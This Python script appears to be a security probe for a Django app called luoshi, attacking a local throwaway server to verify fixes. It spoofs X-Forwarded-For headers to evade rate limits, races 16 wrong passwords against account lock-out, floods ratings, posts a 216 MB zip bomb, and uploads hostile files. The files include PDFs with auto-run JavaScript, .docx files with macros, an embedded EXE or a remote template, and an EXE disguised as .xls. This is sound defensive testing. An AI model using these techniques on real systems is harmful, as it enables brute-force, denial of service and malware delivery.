"""Attack issue 18's fixes the way the probe did, against a real `luoshi serve` (gunicorn).

Fresh database (SQLite in a temp dir, or the PostgreSQL database in DATABASE_URL, which is
EMPTIED first), the production password hasher (argon2), and then:

  A. log-ins with a rotated X-Forwarded-For and fresh cookie jars (PROXIES=0);
  B. `luoshi serve --bind 0.0.0.0:…` with PROXIES=1;
  C. 16 simultaneous wrong passwords (4 workers × 4 threads), several rounds;
  D. bad ratings from fresh cookie jars: at a picture-code point without reading the picture,
     and at a kiosk point (no check) to see the burst hold; then behind a trusted proxy
     (PROXIES=1 on loopback), a script's forwarded address against a citizen's;
  E. a real zip bomb (.xlsx, 216 MB of shared strings) posted to the unit import, with the
     web processes' memory before and after;
  F. every hostile upload kind the probe used, posted as a source's attachments.

    .venv/bin/python bench/probe_security.py [--port-base 8211]
"""

import argparse
import http.cookiejar
import io
import os
import re
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "bench"))

from surge import empty_postgres, wait_for_port  # noqa: E402

PASSWORD = "probe-correct-horse-2026"


class Browser:
    """One browser: its own cookie jar, CSRF from the form it loaded."""

    def __init__(self, base: str, headers: dict | None = None):
        self.base, self.headers = base, headers or {}
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar())
        )

    def get(self, path: str) -> str:
        request = urllib.request.Request(self.base + path, headers=self.headers)
        return self.opener.open(request, timeout=300).read().decode()

    def post(self, path: str, fields: dict, files=None, form_path=None) -> tuple[int, str, float]:
        page = self.get(form_path or path)
        csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
        fields = {"csrfmiddlewaretoken": csrf, **fields}
        if files:
            boundary = uuid.uuid4().hex
            body = io.BytesIO()
            for name, value in fields.items():
                body.write(
                    f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
                )
            for field, (filename, data) in files:
                body.write(
                    f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode()
                )
                body.write(data + b"\r\n")
            body.write(f"--{boundary}--\r\n".encode())
            data, content_type = body.getvalue(), f"multipart/form-data; boundary={boundary}"
        else:
            data = urllib.parse.urlencode(fields).encode()
            content_type = "application/x-www-form-urlencoded"
        headers = {**self.headers, "Content-Type": content_type, "Referer": self.base}
        request = urllib.request.Request(self.base + path, data=data, headers=headers)
        start = time.perf_counter()
        try:
            response = self.opener.open(request, timeout=300)
            self.url = response.geturl()
            return response.status, response.read().decode(), time.perf_counter() - start
        except urllib.error.HTTPError as e:
            self.url = e.geturl()
            return e.code, e.read().decode(errors="replace"), time.perf_counter() - start


def setup():
    import django

    django.setup()
    from django.core.management import call_command

    from luoshi.accounts.actions import do_add_membership, do_create_user
    from luoshi.accounts.models import Role
    from luoshi.incentives.ratings import do_create_point
    from luoshi.orgs.actions import do_create_unit
    from luoshi.orgs.models import UnitClass

    call_command("migrate", verbosity=0)
    classes = {c.code: c for c in UnitClass.objects.all()}
    root = do_create_unit(code="P", name="探测区", unit_class=classes["district"], actor=None)
    town = do_create_unit(code="P1", name="探测镇", unit_class=classes["township"], parent=root,
                          actor=None)  # fmt: skip
    office = do_create_user(username="office", full_name="督查室", password=PASSWORD,
                            must_change_password=False, actor=None)  # fmt: skip
    do_add_membership(user=office, unit=root, role=Role.OFFICE, actor=None)
    for k in range(4):
        victim = do_create_user(username=f"victim{k}", full_name=f"联络员{k}", password=PASSWORD,
                                must_change_password=False, actor=None)  # fmt: skip
        do_add_membership(user=victim, unit=town, role=Role.LIAISON, actor=None)
    picture = do_create_point(unit=town, name="便民服务中心", actor=None)
    try:
        kiosk = do_create_point(unit=town, name="大厅评价器", verification="none", actor=None)
    except TypeError:  # --only lockout against a checkout from before issue 18
        kiosk = picture
    return picture.token, kiosk.token


def serve(env, port, proxies="0", workers=4, threads=4):
    luoshi = str(Path(sys.executable).parent / "luoshi")
    server = subprocess.Popen(
        [luoshi, "serve", "--bind", f"127.0.0.1:{port}", "--workers", str(workers),
         "--threads", str(threads)],
        env={**env, "PROXIES": proxies}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    wait_for_port(port)
    return server


def rss_mib(server) -> float:
    """Resident memory of the gunicorn master and its workers."""
    pids = [server.pid] + [
        int(p) for p in subprocess.run(["pgrep", "-P", str(server.pid)], capture_output=True,
                                       text=True).stdout.split()
    ]  # fmt: skip
    total = 0
    for pid in pids:
        try:
            status = Path(f"/proc/{pid}/status").read_text()
            total += int(re.search(r"VmRSS:\s+(\d+)", status).group(1))
        except (OSError, AttributeError):
            pass
    return total / 1024


def attack_forwarded_for(base):
    codes = []
    for k in range(45):
        browser = Browser(base, {"X-Forwarded-For": f"10.{k}.{k}.{k}"})
        status, _body, _t = browser.post("/login/", {"username": f"nobody{k}", "password": "x"})
        codes.append(status)
    return codes.count(429)


def attack_public_bind(env, port):
    luoshi = str(Path(sys.executable).parent / "luoshi")
    done = subprocess.run([luoshi, "serve", "--bind", f"0.0.0.0:{port}"], capture_output=True,
                          text=True, env={**env, "PROXIES": "1"}, timeout=60)  # fmt: skip
    return done.returncode, done.stderr.strip().splitlines()[-1][:120]


def attack_lockout(base, username):
    from luoshi.accounts.models import User
    from luoshi.audit.models import AuditEvent

    user = User.objects.get(username=username)
    barrier = threading.Barrier(16)
    answers = []

    def guess(k):
        browser = Browser(base)
        browser.get("/login/")
        barrier.wait()
        answers.append(browser.post("/login/", {"username": username, "password": f"guess{k}"})[1])

    threads = [threading.Thread(target=guess, args=(k,)) for k in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    checked = AuditEvent.objects.filter(
        object_id=str(user.pk), action__in=["user.login_failed", "user.lock"]
    ).count()
    locked = sum("账号已锁定" in a for a in answers)
    user.refresh_from_db()
    return checked, locked, user.is_locked()


def attack_ratings(base, picture_token, kiosk_token, headers=None):
    def jar(token, level=1, answer="0000"):
        browser = Browser(base, headers)
        page = browser.get(f"/incentives/rate/{token}/")
        form = re.search(r'name="token" value="([^"]+)"', page).group(1)
        time.sleep(0)  # the form's minimum age is simulated by waiting once below
        return browser, form, answer, level

    results = {}
    jars = [jar(picture_token) for _ in range(5)]
    time.sleep(3.2)
    accepted = 0
    for browser, form, answer, level in jars:
        status, body, _ = browser.post(f"/incentives/rate/{picture_token}/",
                                       {"level": level, "token": form, "answer": answer})  # fmt: skip
        accepted += "谢谢" in body
    results["picture point: accepted without reading the picture"] = accepted
    jars = [jar(kiosk_token) for _ in range(5)]
    time.sleep(3.2)
    for browser, form, _answer, level in jars:
        browser.post(f"/incentives/rate/{kiosk_token}/", {"level": level, "token": form})
    from luoshi.incentives.models import Rating, RatingFix

    kiosk = Rating.objects.filter(point__token=kiosk_token)
    results["kiosk point: stored / counted / held / fixes opened"] = (
        kiosk.count(), kiosk.filter(state="counted").count(), kiosk.filter(state="held").count(),
        RatingFix.objects.filter(rating__point__token=kiosk_token).count(),
    )  # fmt: skip
    return results


def attack_behind_proxy(base, kiosk_token):
    """PROXIES=1: the script's forwarded address is limited at this point; a citizen's is not."""
    from luoshi.incentives.models import Rating

    before = Rating.objects.count()
    script = {"X-Forwarded-For": "198.51.100.66"}
    answers = []
    for _ in range(25):
        browser = Browser(base, script)
        page = browser.get(f"/incentives/rate/{kiosk_token}/")
        form = re.search(r'name="token" value="([^"]+)"', page).group(1)
        answers.append((browser, form))
    time.sleep(3.2)
    refused = 0
    for browser, form in answers:
        refused += "太多" in browser.post(f"/incentives/rate/{kiosk_token}/",
                                         {"level": 1, "token": form})[1]  # fmt: skip
    stored = Rating.objects.count() - before
    citizen = Browser(base, {"X-Forwarded-For": "198.51.100.10"})
    page = citizen.get(f"/incentives/rate/{kiosk_token}/")
    form = re.search(r'name="token" value="([^"]+)"', page).group(1)
    time.sleep(3.2)
    ok = "谢谢" in citizen.post(f"/incentives/rate/{kiosk_token}/", {"level": 5, "token": form})[1]
    return refused, stored, ok


def attack_uploads(base, server):
    from luoshi.lib.tests import office_files as f

    office = Browser(base, {"X-Forwarded-For": "192.0.2.50"})
    office.post("/login/", {"username": "office", "password": PASSWORD})
    assert urllib.parse.urlparse(office.url).path == "/", office.url  # logged in
    bomb = f.zip_bomb_xlsx(216)
    before = rss_mib(server)
    status, body, seconds = office.post("/units/import/", {}, files=[("file", ("单位.xlsx", bomb))])
    after = rss_mib(server)
    bomb_result = (len(bomb) // 1024, seconds, "压缩炸弹" in body, before, after)
    hostile = {
        "exe behind an OLE header (.xls)": ("台账.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + f.PE),
        "PDF with auto-run JavaScript": ("说明.pdf", f.pdf_with_open_action(
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        "PDF JavaScript in an object stream": ("说明2.pdf", f.pdf_with_js_in_object_stream()),
        ".docx with macros": ("通知.docx", f.with_parts(f.docx(), {"word/vbaProject.bin": b"x"})),
        ".docx with an embedded .exe": ("汇报.docx", f.with_parts(f.docx(), {
            "word/embeddings/oleObject1.bin": f.ole({"\x01Ole10Native": f.ole10native(f.PE)})})),
        ".docx with a remote template": ("方案.docx", f.with_parts(f.docx(), {
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'})),
        "PNG followed by HTML": ("现场.png", f.png(b"<html><script>alert(1)</script></html>")),
    }  # fmt: skip
    fields = {"kind": "meeting", "title": "探测", "date": "2026-03-02"}
    refused = {}
    for label, (name, data) in hostile.items():
        office.post("/sources/new/", fields, files=[("files", (name, data))])
        refused[label] = urllib.parse.urlparse(office.url).path == "/sources/new/"  # the form again
    plain = [("files", ("说明.pdf", f.plain_pdf())), ("files", ("现场.png", f.png())),
             ("files", ("报告.docx", f.docx())), ("files", ("成绩.xlsx", f.xlsx()))]  # fmt: skip
    from luoshi.directives.models import SourceFile

    stored_before = SourceFile.objects.count()
    office.post("/sources/new/", fields | {"title": "正常附件"}, files=plain)
    return bomb_result, refused, SourceFile.objects.count() - stored_before


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port-base", type=int, default=8211)
    parser.add_argument("--only", choices=["lockout"], help="run one attack only")
    args = parser.parse_args()
    workdir = tempfile.mkdtemp(prefix="luoshi-probe-")
    env = dict(os.environ, LUOSHI_VAR_DIR=workdir, DJANGO_SETTINGS_MODULE="luoshi.settings",
               ALLOWED_HOSTS="127.0.0.1,localhost", SECRET_KEY="probe-only")  # fmt: skip
    os.environ.update(env)
    if env.get("DATABASE_URL", "").startswith("postgres"):
        empty_postgres(env["DATABASE_URL"])
    picture, kiosk = setup()
    if args.only == "lockout":
        server = serve({**env, "LOGIN_RATE": "10000/m"}, args.port_base + 2)
        try:
            for k in range(4):
                checked, locked, is_locked = attack_lockout(
                    f"http://127.0.0.1:{args.port_base + 2}", f"victim{k}"
                )
                print(f"C. round {k + 1}: 16 simultaneous wrong passwords (4×4): {checked} "
                      f"checked, {locked} told 'locked', account locked: {is_locked}")  # fmt: skip
        finally:
            server.terminate()
            server.wait()
        return
    port = args.port_base
    server = serve(env, port)
    base = f"http://127.0.0.1:{port}"
    try:
        print(f"A. 45 log-ins, rotated X-Forwarded-For, PROXIES=0: {attack_forwarded_for(base)} "
              "answered 429 (LOGIN_RATE 30/m: 15 expected)")  # fmt: skip
    finally:
        server.terminate()
        server.wait()
    code, said = attack_public_bind(env, args.port_base + 1)
    print(f"B. serve --bind 0.0.0.0 with PROXIES=1: exit {code}: {said}")
    # The per-address log-in limit is lifted here so that only the per-account lock-out acts.
    server = serve({**env, "LOGIN_RATE": "10000/m"}, args.port_base + 2)
    base = f"http://127.0.0.1:{args.port_base + 2}"
    try:
        for k in range(4):
            checked, locked, is_locked = attack_lockout(base, f"victim{k}")
            print(f"C. round {k + 1}: 16 simultaneous wrong passwords (4×4): {checked} checked, "
                  f"{locked} told 'locked', account locked: {is_locked}")  # fmt: skip
        for label, value in attack_ratings(base, picture, kiosk).items():
            print(f"D. 5 fresh cookie jars, bad ratings, {label}: {value}")
    finally:
        server.terminate()
        server.wait()
    server = serve(env, args.port_base + 3, proxies="1")
    base = f"http://127.0.0.1:{args.port_base + 3}"
    try:
        refused, stored, citizen = attack_behind_proxy(base, kiosk)
        print(f"D. PROXIES=1, 25 jars from one forwarded address: {refused} refused, {stored} "
              f"stored (RATING_RATE 20/h); a citizen at another address then: "
              f"{'accepted' if citizen else 'REFUSED'}")  # fmt: skip
        bomb, refused, plain = attack_uploads(base, server)
        print(f"E. zip bomb {bomb[0]} KB → refused: {bomb[2]} in {bomb[1]:.2f} s; web RSS "
              f"{bomb[3]:.0f} → {bomb[4]:.0f} MiB")  # fmt: skip
        for label, was_refused in refused.items():
            print(f"F. {label}: {'refused' if was_refused else 'ACCEPTED'}")
        print(f"F. four ordinary attachments (PDF, PNG, DOCX, XLSX): {plain} stored")
    finally:
        server.terminate()
        server.wait()


if __name__ == "__main__":
    main()
